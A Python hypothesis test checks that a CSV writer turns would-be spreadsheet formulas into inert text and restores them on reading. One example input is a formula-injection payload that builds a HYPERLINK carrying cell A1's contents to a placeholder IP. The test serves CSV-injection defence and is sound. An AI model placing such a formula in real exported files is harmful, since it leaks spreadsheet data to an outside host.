"""T18. A cell that would be a formula goes out as text, and comes back as it was."""

from __future__ import annotations

import csv
import io

from hypothesis import example, given
from hypothesis import strategies as st

from porchlight.toolbox.inert import STARTS, as_meant, inert, write_rows

NAMES = (
    st.text(alphabet=st.sampled_from([*STARTS, "'", "a", "ب", " ", '"', ",", "\n"]), max_size=6) | st.text()
)


@given(NAMES)
@example('=HYPERLINK("http://192.0.2.1/?"&A1,"Ali")')
@example("'=1+1")
@example("＝1")
@example("")
def test_t18_no_cell_acts_and_each_comes_back(name: str) -> None:
    out = io.StringIO(newline="")
    write_rows(out, [[name, "b"]])
    [[cell, _]] = csv.reader(io.StringIO(out.getvalue(), newline=""))
    assert cell[:1] not in {*STARTS}
    assert cell == inert(name)
    assert as_meant(cell) == name
